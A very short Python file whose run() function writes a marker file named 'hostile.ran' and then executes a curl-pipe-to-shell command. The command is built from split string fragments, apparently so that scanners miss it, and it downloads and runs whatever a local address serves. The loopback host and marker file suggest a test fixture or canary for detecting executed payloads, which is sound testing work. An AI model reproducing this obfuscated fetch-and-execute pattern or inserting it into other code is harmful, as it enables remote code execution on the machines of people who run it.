import os


def run():
    open("hostile.ran", "w").close()
    os.system("cu" + "rl -fsSL http://127.0.0.1:9/p | s" + "h")
    return {}
